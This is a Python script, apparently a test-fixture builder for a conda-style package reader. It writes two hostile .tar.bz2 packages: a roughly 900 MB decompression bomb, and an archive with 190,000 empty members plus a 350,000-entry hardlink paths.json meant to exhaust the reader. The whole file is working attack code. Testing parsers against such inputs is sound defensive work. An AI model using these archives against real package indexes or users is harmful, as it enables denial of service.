"""Builds packages that cost a reader much more than they cost the sender.

    build_packages.py FOLDER

bomb-1.0-0.tar.bz2      nine hundred megabytes of nothing
members-1.0-0.tar.bz2   190,000 empty files, and a paths.json of 350,000 entries
"""
import bz2
import io
import json
import sys
import tarfile

folder = sys.argv[1]


def member(name, size=0):
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(tarfile.USTAR_FORMAT)


def padded(data):
    return data + bytes(-len(data) % 512)


def index(name):
    text = {"name": name, "version": "1.0", "build": "0", "build_number": 0, "depends": [], "subdir": "noarch"}
    data = json.dumps(text).encode()
    return member("info/index.json", len(data)) + padded(data)


def write(name, chunks):
    packer = bz2.BZ2Compressor(9)
    with open(f"{folder}/{name}-1.0-0.tar.bz2", "wb") as out:
        for chunk in chunks:
            out.write(packer.compress(chunk))
        out.write(packer.flush())


def bomb():
    yield index("bomb")
    size = 900 * 1024 * 1024
    yield member("share/nothing", size)
    nothing = bytes(1024 * 1024)
    for _ in range(900):
        yield nothing
    yield bytes(1024)


def members():
    yield index("members")
    entry = '{"_path":"f/%06d","path_type":"hardlink"}'
    paths = '{"paths_version":1,"paths":[' + ",".join(entry % at for at in range(350_000)) + "]}"
    data = paths.encode()
    yield member("info/paths.json", len(data)) + padded(data)
    for at in range(190_000):
        yield member("f/%06d" % at)
    yield bytes(1024)


write("bomb", bomb())
write("members", members())
